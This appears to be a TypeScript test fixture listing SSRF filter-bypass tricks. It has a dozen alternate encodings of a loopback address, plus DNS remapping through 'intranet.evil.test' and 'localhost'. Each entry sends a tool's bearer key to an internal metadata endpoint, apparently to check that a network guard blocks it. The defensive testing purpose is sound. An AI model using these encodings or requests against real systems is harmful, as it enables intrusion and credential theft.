import type { AttackTable } from "../attack.ts";

const hosts: Readonly<Record<string, string>> = {
  "in dotted decimals": "127.0.0.2",
  "as one number": "2130706434",
  "in hexadecimals": "0x7f000002",
  "in octals": "0177.0.0.2",
  "with parts left out": "127.2",
  "in several notations at once": "0x7f.0.02",
  "in IPv6 clothes": "[::ffff:127.0.0.2]",
  "in IPv6 clothes, in hexadecimals": "[::ffff:7f00:2]",
  "percent-encoded": "127.0.0.%32",
  "in digits of full width": "１２７.0.0.2",
  "with a dot at the end": "127.0.0.2.",
  "with ideographic dots": "127。0。0。2",
};

/** A tool that is told to look at an address inside the network, with its key. */
export const privateAddresses: AttackTable = [
  ...Object.entries(hosts).map(([name, host]): AttackTable[number] => [
    name,
    async (tool) => {
      const headers = { authorization: `Bearer ${tool.key}` };
      await tool.tell(await tool.fetch(`https://${host}:${tool.world.internal.port}/latest/meta-data`, { headers }));
    },
  ]),
  [
    "by a public name that leads there",
    async (tool) => {
      tool.world.names.set("intranet.evil.test", () => [tool.world.internal.address]);
      const headers = { authorization: `Bearer ${tool.key}` };
      await tool.tell(await tool.fetch(`https://intranet.evil.test:${tool.world.internal.port}/`, { headers }));
    },
  ],
  [
    "by localhost",
    async (tool) => {
      tool.world.names.set("localhost", () => [tool.world.internal.address]);
      const headers = { authorization: `Bearer ${tool.key}` };
      await tool.tell(await tool.fetch(`https://localhost:${tool.world.internal.port}/`, { headers }));
    },
  ],
];
